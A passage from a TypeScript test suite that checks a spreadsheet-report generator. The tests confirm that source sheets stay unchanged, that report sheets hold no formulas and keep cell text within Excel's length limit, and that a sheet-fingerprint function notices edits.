    expect(existsSync(run.output)).toBe(true);
    const source = new ExcelJS.Workbook();
    await source.xlsx.readFile(run.input);
    const report = new ExcelJS.Workbook();
    await report.xlsx.readFile(run.output);
    for (const sheet of source.worksheets) {
      expect(JSON.stringify(report.getWorksheet(sheet.name)?.getSheetValues())).toBe(JSON.stringify(sheet.getSheetValues()));
    }
    const sourceNames = new Set(source.worksheets.map((w) => w.name));
    const reportSheets = report.worksheets.filter((w) => !sourceNames.has(w.name));
    expect(reportSheets.length).toBeGreaterThan(0);
    for (const sheet of reportSheets) {
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.formula).toBeUndefined();
          if (typeof cell.value === "string") expect(cell.value.length).toBeLessThanOrEqual(EXCEL_MAX_CELL_TEXT);
        }),
      );
    }
    if (expected.asText) {
      // The payload did reach the report — as a text cell, exactly as typed.
      const texts: unknown[] = [];
      report.getWorksheet("Ziel-Ist-Vergleich")?.eachRow((row) => row.eachCell((cell) => texts.push(cell.value)));
      for (const label of expected.asText) expect(texts).toContain(label);
    }
  });

  it("leaves every source sheet of the whole corpus unchanged: input bytes, and each sheet in the input and in the report copy", async () => {
    const changed: string[] = [];
    for (const [i, [name, build]] of CASES.entries()) {
      const run = await runCase(dir, CASES.length + i, build);
      const names = Object.keys(run.sheetsBefore);
      if (names.length === 0) changed.push(`${name}: keine Quellblätter gelesen`);
      if (sha(readFileSync(run.input)) !== run.bytesBefore) changed.push(`${name}: Eingabedatei verändert`);
      const inputAfter = await fingerprints(run.input);
      const reportCopy = await fingerprints(run.output, names);
      for (const sheet of names) {
        if (inputAfter[sheet] !== run.sheetsBefore[sheet]) changed.push(`${name}: ${sheet} in der Eingabe`);
        if (reportCopy[sheet] !== run.sheetsBefore[sheet]) changed.push(`${name}: ${sheet} in der Berichtskopie`);
      }
    }
    expect(changed).toEqual([]);
  });

  it("the sheet fingerprint notices a changed value, number format, visibility or merge", () => {
    const variants: Array<(ws: ExcelJS.Worksheet) => void> = [
      () => undefined,
      (ws) => (ws.getCell("C2").value = 1011),
      (ws) => (ws.getCell("C2").value = "1010"),
      (ws) => (ws.getCell("C2").numFmt = "0.00"),
      (ws) => (ws.state = "hidden"),
      (ws) => ws.mergeCells("B3:C3"),
      (ws) => (ws.getCell("F9").value = "neu"),
    ];
    const prints = variants.map((patch) => {
      const wb = new ExcelJS.Workbook();
      grunddaten(wb, patch);
      return sheetFingerprint(wb.getWorksheet("Grunddaten") as ExcelJS.Worksheet);
    });
    expect(new Set(prints).size).toBe(variants.length);
  });
});
